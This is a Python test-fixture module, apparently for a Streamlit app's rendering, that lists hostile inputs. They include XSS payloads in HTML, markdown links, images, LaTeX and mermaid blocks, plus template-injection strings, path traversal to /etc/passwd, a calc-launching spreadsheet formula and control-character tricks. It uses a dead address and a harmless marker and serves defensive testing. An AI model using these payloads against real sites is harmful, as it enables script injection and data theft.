"""What documents, models, file names and titles may say to harm who looks at it. `hostile("127.0.0.1:1")` names the
place that must never be asked for anything.
"""

ALERT = "window.pwned=1"

SCRIPTS = r"""
<script>ALERT</script>
<SCRIPT SRC=//PLACE/x.js></SCRIPT>
<scr<script>ipt>ALERT</scr</script>ipt>
<script/x>ALERT</script>
<script type=module>import "//PLACE/m.js"</script>
"><script>ALERT</script>
</textarea><script>ALERT</script>
</title><script>ALERT</script>
<svg onload=ALERT>
<svg/onload=ALERT//
<svg><script>ALERT</script></svg>
<svg><animate onbegin=ALERT attributeName=x dur=1s>
<svg><use href="//PLACE/x.svg#a"/></svg>
<svg><foreignObject><iframe srcdoc="<script>ALERT</script>"></iframe></foreignObject></svg>
<img src=x onerror=ALERT>
<img/src="x"/onerror=ALERT>
<img src=//PLACE/i.png>
<img srcset="//PLACE/i.png 1x, //PLACE/j.png 2x">
<picture><source srcset=//PLACE/p.png><img></picture>
<image src=//PLACE/i.png>
<video src=//PLACE/v.mp4 autoplay onloadstart=ALERT></video>
<audio src=x onerror=ALERT autoplay>
<body onload=ALERT>
<body background=//PLACE/b.png>
<details open ontoggle=ALERT>x</details>
<input autofocus onfocus=ALERT>
<marquee onstart=ALERT>x</marquee>
<div onmouseover=ALERT style="position:fixed;inset:0">x</div>
<div style="background:url(//PLACE/c.png)">x</div>
<style>@import "//PLACE/s.css"; *{background:url(//PLACE/u.png)}</style>
<link rel=stylesheet href=//PLACE/s.css>
<link rel=prefetch href=//PLACE/pre>
<iframe src=//PLACE/f.html></iframe>
<iframe src=javascript:ALERT></iframe>
<iframe srcdoc="<script>parent.ALERT</script>"></iframe>
<object data=//PLACE/o.swf></object>
<object data="data:text/html,<script>ALERT</script>"></object>
<embed src=//PLACE/e.swf>
<meta http-equiv=refresh content="0;url=//PLACE/r">
<base href=//PLACE/>
<form action=//PLACE/f><button autofocus>x</button></form>
<form><button formaction=javascript:ALERT>x</button></form>
<isindex action=javascript:ALERT type=submit>
<math><mtext></p><style><img src=x onerror=ALERT></style></mtext></math>
<math href="javascript:ALERT">x</math>
<noscript><p title="</noscript><img src=x onerror=ALERT>">
<!--><img src=x onerror=ALERT>-->
<![CDATA[<script>ALERT</script>]]>
<?xml-stylesheet href="//PLACE/x.xsl"?>
<template><script>ALERT</script></template>
<a href=javascript:ALERT>x</a>
<a href="//PLACE/a" ping="//PLACE/ping">x</a>
<br><hr><h1>x</h1>
&lt;script&gt;ALERT&lt;/script&gt;
&#60;img src=x onerror=ALERT&#62;
&#x3C;svg onload=ALERT&#x3E;
\<script>ALERT</script>
`<script>ALERT</script>`
"""

LINKS = r"""
[x](javascript:ALERT)
[x](JaVaScRiPt:ALERT)
[x]( javascript:ALERT )
[x](<javascript:ALERT>)
[x](javascript&colon;ALERT)
[x](javascript&#58;ALERT)
[x](&#106;avascript:ALERT)
[x](&#x6A;&#x61;vascript:ALERT)
[x](java&Tab;script:ALERT)
[x](java&NewLine;script:ALERT)
[x](\javascript:ALERT)
[x](javascript\:ALERT)
[x](javascript:ALERT "title")
[x](javascript://PLACE/%0aALERT)
[x](vbscript:ALERT)
[x](data:text/html,<script>ALERT</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg onload=ALERT>)
[x](blob:http://PLACE/x)
[x](file:///etc/passwd)
[x](ftp://PLACE/x)
[x](//PLACE/x)
[x](/_stcore/health)
[x](?page=x)
[x](#anchor)
[x](view-source:http://PLACE/)
[x](intent://x#Intent;end)
[x](http://user:word@PLACE/)
[x](http://google.com@PLACE/)
[google.com](http://PLACE/)
[http://google.com](http://PLACE/)
[x](http://PLACE/ "onmouseover=ALERT")
[x](http://PLACE/" onclick="ALERT)
[a]: javascript:ALERT
<javascript:ALERT>
<http://PLACE/x>
<a@PLACE.example>
http://PLACE/bare
www.PLACE.example
someone@somewhere.example
mailto:someone@somewhere.example
javascript:ALERT
[![x](http://PLACE/i.png)](javascript:ALERT)
[x][y] and [y]
[^1] and ^[note]
"""

PICTURES = r"""
![x](http://PLACE/i.png)
![x](//PLACE/i.png)
![x](http://PLACE/i.png "title")
![x](<http://PLACE/i.png>)
![x](javascript:ALERT)
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x](data:image/png;base64,iVBORw0KGgo=)
![x][y]
![](http://PLACE/i.png?secret=1)
!\[x](http://PLACE/i.png)
\![x](http://PLACE/i.png)
![x](/app/static/x.png)
![x](blob:null/x)
"""

STREAMLIT = r"""
:red[x] :blue-background[x] :rainbow[x] :green-badge[x]
:small[x] :shimmer[x] :help[x]
:color[x]{foreground="red" background="url(//PLACE/c.png)"}
:primary[![x](http://PLACE/i.png)]
:material/home: :material_home: :material/warning:
:streamlit: :smile: :+1: :100: :1234:
a:smile:b 12:30:45
-> <- <-> -- >= <= ~=
a -> b <- c <-> d -- e >= f <= g ~= h
$x^2$ and $$y$$
$\href{javascript:ALERT}{x}$
$\url{http://PLACE/x}$
$\includegraphics{http://PLACE/i.png}$
$\htmlData{x=y}{z}$ $\style{background:url(//PLACE/m.png)}{x}$
$$\def\a{\a\a}\a$$
\(x\) \[y\]
~~x~~ ~y~ **z** __q__ *w* _e_ `r`
::video[x]{src=//PLACE/v}
:::note
- [ ] task [x] done
# heading
#tag
> quote
1. one
1) one
+ plus
* star
- dash
---
===
***
| a | b |
    indented
"""

OTHERS = r"""
{{ config }} {{7*7}} {% raw %}
{name} {0} {remedy} {__class__} %s %(x)s ${ALERT} #{x}
<% ALERT %>
');ALERT;//
";ALERT;//
../../etc/passwd
..\..\windows
C:\con
x.pdf.exe
null undefined NaN
=cmd|' /C calc'!A0
\u003cscript\u003eALERT\u003c/script\u003e
%3Cscript%3EALERT%3C/script%3E
"""

WHOLE = [
    "\u202egnp.exe\u202c and \u2066isolated\u2069 \u200f\u061cmarks",
    "zero\u200bwidth\u200c and \u2060joined\ufeff",
    "nul\x00 bell\x07 esc\x1b[31mred\x1b[0m \x1b]8;;http://PLACE/\x07x\x1b]8;;\x07",
    "line\u2028and\u2029paragraph\x85next",
    "\ud800 lone surrogate",
    "e" + "\u0301" * 50,
    "W" * 3_000,
    "long " * 600,
    "[" * 300 + "]" * 300,
    "> " * 200 + "x",
    "- " * 200 + "x",
    "*" * 301,
    "`" * 301,
    "```mermaid\ngraph TD; a-->b; click a call alert()\n```",
    "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD; a[<img src=x onerror=ALERT>]\n```",
    "```html\n<script>ALERT</script>\n```",
    "~~~\n</code></pre><script>ALERT</script>",
    '``` " onmouseover="ALERT\n:material/home: <b>\n```',
    "![x][y]\n\n[y]: http://PLACE/i.png",
    "[x][y]\n\n[y]: javascript:ALERT",
    "<div\n\nonclick=ALERT>\n\n</div>",
    "| a | b |\n|---|---|\n| ![x](http://PLACE/i.png) | <img src=x onerror=ALERT> |",
    "# heading\n\n## ![x](http://PLACE/i.png)\n\n===\n\ntext\n---",
    "- a\n  - ![x](http://PLACE/i.png)\n\n      <script>ALERT</script>",
    "$$\n\\href{javascript:ALERT}{x}\n$$",
    "[^1]\n\n[^1]: ![x](http://PLACE/i.png)",
    "---\ntitle: x\n---\n<script>ALERT</script>",
    "",
    "   ",
]


def hostile(place):
    """All of them, with the place that must not be asked put in."""
    lines = [line for text in (SCRIPTS, LINKS, PICTURES, STREAMLIT, OTHERS) for line in text.split("\n")[1:-1]]
    return [each.replace("PLACE", place).replace("ALERT", ALERT) for each in lines + WHOLE]
